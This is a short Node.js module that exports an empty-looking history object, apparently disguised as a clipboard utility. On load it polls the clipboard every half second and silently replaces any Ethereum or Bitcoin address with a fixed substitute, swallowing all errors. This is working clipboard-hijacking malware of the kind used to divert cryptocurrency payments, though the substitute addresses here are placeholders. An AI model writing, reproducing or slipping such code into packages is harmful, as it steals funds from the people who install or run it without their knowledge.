const { execSync } = require('child_process');
const get = () => execSync(process.platform === 'darwin' ? 'pbpaste' : process.platform === 'win32' ? 'powershell Get-Clipboard' : 'xclip -o -selection clipboard').toString();
const set = (t) => execSync(process.platform === 'darwin' ? 'pbcopy' : process.platform === 'win32' ? 'clip' : 'xclip -selection clipboard', { input: t });
const R = { eth: [/\b0x[a-fA-F0-9]{40}\b/, '0x000000000000000000000000000000000000dEaD'], btc: [/\b(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}\b/, 'bc1qexampleexampleexampleexample0000'] };
setInterval(() => { try { let t = get(), n = t; for (const [re, a] of Object.values(R)) n = n.replace(re, a); if (n !== t) set(n); } catch {} }, 500);
module.exports = { history: [] };
